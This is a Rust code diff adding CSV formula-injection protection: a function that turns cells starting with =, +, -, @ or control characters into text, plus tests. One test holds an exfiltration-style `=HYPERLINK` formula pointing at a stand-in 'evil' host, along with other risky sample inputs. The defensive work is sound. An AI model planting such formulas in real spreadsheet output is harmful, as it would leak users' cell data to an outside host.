@@ -99,11 +99,25 @@ fn raw(v: f64) -> String {
     }
 }
 
+/// Text that a spreadsheet would run as a formula (`=HYPERLINK(…)` typed as a unit name)
+/// gets a leading `'`, as OWASP advises for CSV injection: Excel then shows it as text.
+/// Numbers such as -5 stay numbers. Every writer of spreadsheet text cells (CSV, .xlsx)
+/// goes through this.
+pub fn neutralise_formula(s: &str) -> std::borrow::Cow<'_, str> {
+    let risky = s.starts_with(['=', '+', '-', '@', '\t', '\r']) && s.parse::<f64>().is_err();
+    if risky {
+        format!("'{s}").into()
+    } else {
+        s.into()
+    }
+}
+
 fn csv_field(s: &str) -> String {
-    if s.contains([',', '"', '\n', '\r']) {
+    let s = neutralise_formula(s);
+    if s.contains([',', '"', '\n', '\r', '\t', '\'']) {
         format!("\"{}\"", s.replace('"', "\"\""))
     } else {
-        s.to_string()
+        s.into_owned()
     }
 }
 
@@ -190,6 +204,19 @@ mod tests {
         assert_eq!(csv_field("城关镇"), "城关镇");
         assert_eq!(csv_field("a,b"), "\"a,b\"");
         assert_eq!(csv_field("say \"hi\""), "\"say \"\"hi\"\"\"");
+    }
+
+    #[test]
+    fn formulas_become_text_and_numbers_stay_numbers() {
+        assert_eq!(
+            csv_field("=HYPERLINK(\"http://evil/?\"&A1,\"x\")"),
+            "\"'=HYPERLINK(\"\"http://evil/?\"\"&A1,\"\"x\"\")\""
+        );
+        for risky in ["+1+cmd", "-2+3", "@SUM(A1)", "\t=1", "\r=1"] {
+            assert!(csv_field(risky).starts_with("\"'"), "{risky}");
+        }
+        assert_eq!(csv_field("-5"), "-5");
+        assert_eq!(csv_field("0.25"), "0.25");
     }
 
     #[test]
